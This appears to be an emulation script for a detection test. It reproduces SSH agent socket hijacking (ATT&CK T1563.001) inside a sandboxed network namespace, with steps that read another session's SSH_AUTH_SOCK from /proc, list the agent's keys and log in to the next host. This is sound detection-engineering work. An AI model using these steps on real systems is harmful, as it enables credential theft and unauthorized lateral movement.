# technique: T1563.001
# tactic: lateral-movement
# name: Another user's forwarded SSH agent socket found and used to reach the next host
# expect: detected
. "$EMULATION_LIB"
need ssh ssh-agent ssh-add ssh-keygen ip
loopback_up
# The "next host" lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.20/32 dev lo
# A private, empty /root so ssh reads and writes nothing of the host's.
private_tmpfs /root

# The victim: an admin logged in with agent forwarding; the agent (holding the admin's key) and a
# session process that carries SSH_AUTH_SOCK in its environment.
mkdir -m 700 ssh-Xk3fPq
ssh-keygen -q -t ed25519 -N '' -C 'admin@workstation' -f admin_key
ssh-agent -a "$PWD/ssh-Xk3fPq/agent.4242" > agent.env
agent_pid=$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' agent.env)
SSH_AUTH_SOCK=$PWD/ssh-Xk3fPq/agent.4242 ssh-add -q admin_key
SSH_AUTH_SOCK=$PWD/ssh-Xk3fPq/agent.4242 sleep 30 &
session=$!
sleep 0.2
cleanup() { kill "$session" "$agent_pid" 2>/dev/null || true; }
trap cleanup EXIT

# The attacker (root on this box): read the session's environment for its agent socket, list the
# keys it holds, and use them to log in to the next host without ever seeing a private key.
sock=$(tr '\0' '\n' < /proc/$session/environ | sed -n 's/^SSH_AUTH_SOCK=//p')
SSH_AUTH_SOCK=$sock ssh-add -l > keys.txt
grep -q 'admin@workstation' keys.txt
SSH_AUTH_SOCK=$sock ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
	-o ConnectTimeout=3 admin@198.51.100.20 'id; hostname' > remote.txt 2>&1 || true
